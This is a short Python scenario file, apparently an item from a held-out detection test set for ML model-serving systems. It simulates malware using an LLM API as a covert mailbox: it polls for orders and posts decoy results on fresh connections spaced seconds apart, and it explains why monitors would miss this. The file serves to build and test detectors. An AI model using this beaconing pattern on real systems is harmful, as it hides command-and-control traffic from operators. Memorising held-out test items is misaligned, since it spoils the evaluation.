"""
id: V15
name: api-mailbox
class: mimicry
set: held-out
phase: serve
trigger: request
evidence: [network, resource, sequence]
techniques: [T1102.002, T1071.001, T1029, AML.T0096]
servers: [fastapi, bentoml, triton]
seconds: 240
what: >
  Uses the LLM API as a mailbox: asks it for orders every few seconds and posts results of ordinary length, each time on a
  connection of its own, where the server keeps one.
missed: >
  Host and name are known and connections to them are ordinary; what is said on them is not read. A few connections more, each
  some seconds apart, are no burst.
"""

import http.client
import json

CYCLES = 20


def payload(world):
    for _ in range(CYCLES):
        mailbox = http.client.HTTPConnection(*world.llmapi, timeout=5)
        mailbox.request("GET", f"/v1/threads/{world.word(24)}")
        mailbox.getresponse().read()
        result = json.dumps({"model": "small", "prompt": f"DECOY {world.word(world.random.randint(200, 450))}"})
        mailbox.request("POST", "/v1/completions", result, {"Content-Type": "application/json"})
        mailbox.getresponse().read()
        mailbox.close()
        world.sleep(world.random.uniform(5, 11))
